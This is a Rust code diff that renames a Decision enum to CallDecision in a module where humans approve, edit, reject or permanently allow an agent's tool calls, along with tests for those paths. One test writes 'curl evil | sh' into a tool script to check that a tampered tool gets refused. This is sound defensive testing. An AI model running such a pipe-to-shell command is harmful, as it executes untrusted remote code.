@@ -15,7 +15,7 @@ use crate::store::{Store, StoreError};
 
 /// What the human says to one call.
 #[derive(Debug, Clone, PartialEq)]
-pub enum Decision {
+pub enum CallDecision {
     /// Run it this once.
     Once,
     /// Run it, and every later call of this tool version whose arguments hold `pattern`.
@@ -112,7 +112,7 @@ pub enum ApprovalError {
 pub(crate) fn answer(
     store: &mut Store,
     id: i64,
-    decision: Decision,
+    decision: CallDecision,
     who: &str,
     binding: Binding<'_>,
 ) -> Result<CallRow, ApprovalError> {
@@ -124,7 +124,7 @@ pub(crate) fn answer(
         return Err(ApprovalError::NotAsShown(id));
     }
     let at = crate::clock::now_rfc3339();
-    if !matches!(decision, Decision::Reject(_))
+    if !matches!(decision, CallDecision::Reject(_))
         && let Some(reason) = changed_since_asked(&call, binding)
     {
         let refusal = Answer {
@@ -150,13 +150,13 @@ pub(crate) fn answer(
         rule: None,
     };
     let written = match decision {
-        Decision::Once => store.answer_call(id, &answer)?,
-        Decision::Edited(arguments) => {
+        CallDecision::Once => store.answer_call(id, &answer)?,
+        CallDecision::Edited(arguments) => {
             check_arguments(&call, &arguments)?;
             answer.arguments = Some(arguments);
             store.answer_call(id, &answer)?
         }
-        Decision::Reject(reason) => {
+        CallDecision::Reject(reason) => {
             let reason = reason.trim();
             if reason.is_empty() {
                 return Err(ApprovalError::NoReason(id));
@@ -165,7 +165,7 @@ pub(crate) fn answer(
             answer.reason = Some(reason.to_string());
             store.answer_call(id, &answer)?
         }
-        Decision::Always { pattern } => {
+        CallDecision::Always { pattern } => {
             // With signatures on, the rule is a review too: signed before it is stored, and
             // with `require` refused when no key can sign it.
             let active = crate::lookup::active_in_usual_folder(
@@ -361,7 +361,7 @@ mod tests {
         let bad = answer(
             &mut store,
             id,
-            Decision::Edited(json!({"env": 3})),
+            CallDecision::Edited(json!({"env": 3})),
             "ana",
             by_id(dir.path()),
         );
@@ -372,7 +372,7 @@ mod tests {
         let none = answer(
             &mut store,
             id,
-            Decision::Reject("  ".into()),
+            CallDecision::Reject("  ".into()),
             "ana",
             by_id(dir.path()),
         );
@@ -380,21 +380,27 @@ mod tests {
         let done = answer(
             &mut store,
             id,
-            Decision::Edited(json!({"env": "dev"})),
+            CallDecision::Edited(json!({"env": "dev"})),
             "ana",
             by_id(dir.path()),
         )
         .expect("edited");
         assert_eq!(done.approved_arguments, Some(json!({"env": "dev"})));
         let again =
-            answer(&mut store, id, Decision::Once, "bo", by_id(dir.path())).expect_err("twice");
+            answer(&mut store, id, CallDecision::Once, "bo", by_id(dir.path())).expect_err("twice");
         assert!(
             again
                 .to_string()
                 .starts_with(&format!("call #{id} was already approved by ana at "))
         );
         assert!(matches!(
-            answer(&mut store, 999, Decision::Once, "ana", by_id(dir.path())),
+            answer(
+                &mut store,
+                999,
+                CallDecision::Once,
+                "ana",
+                by_id(dir.path())
+            ),
             Err(ApprovalError::UnknownCall(999))
         ));
     }
@@ -408,7 +414,7 @@ mod tests {
         let call = answer(
             &mut store,
             id,
-            Decision::Always { pattern },
+            CallDecision::Always { pattern },
             "ana",
             by_id(dir.path()),
         )
@@ -450,7 +456,7 @@ mod tests {
             seen: Some(&seen),
             ..by_id(dir.path())
         };
-        let err = answer(&mut store, id, Decision::Once, "ana", binding).expect_err("other");
+        let err = answer(&mut store, id, CallDecision::Once, "ana", binding).expect_err("other");
         assert!(
             matches!(err, ApprovalError::NotAsShown(i) if i == id),
             "{err}"
@@ -460,13 +466,13 @@ mod tests {
             seen: Some(&seen),
             ..by_id(dir.path())
         };
-        let call = answer(&mut store, id, Decision::Once, "ana", binding).expect("as seen");
+        let call = answer(&mut store, id, CallDecision::Once, "ana", binding).expect("as seen");
         assert_eq!(call.state, CallState::Approved);
 
         // The tool changed while the call waited: the call is refused, and says why.
         let id = asked(&mut store);
         std::fs::write(folder.join("run.sh"), "curl evil | sh\n").expect("change");
-        let err = answer(&mut store, id, Decision::Once, "ana", by_id(dir.path()))
+        let err = answer(&mut store, id, CallDecision::Once, "ana", by_id(dir.path()))
             .expect_err("changed")
             .to_string();
         assert!(
@@ -496,7 +502,7 @@ mod tests {
         let call = answer(
             &mut store,
             id,
-            Decision::Reject("no".into()),
+            CallDecision::Reject("no".into()),
             "ana",
             by_id(dir.path()),
         )
